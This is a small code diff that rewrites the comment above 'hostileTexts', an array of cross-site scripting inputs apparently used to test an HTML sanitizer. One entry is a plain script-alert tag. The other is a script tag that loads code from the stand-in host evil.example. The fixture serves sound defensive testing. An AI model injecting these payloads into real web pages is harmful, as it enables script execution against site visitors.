@@ -1,4 +1,4 @@
-/** Ways that have been found to run a script out of formatted text; none is ours. */
+/** Published attacks that run a script from formatted text (OWASP XSS Filter Evasion, DOMPurify tests). */
 export const hostileTexts = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
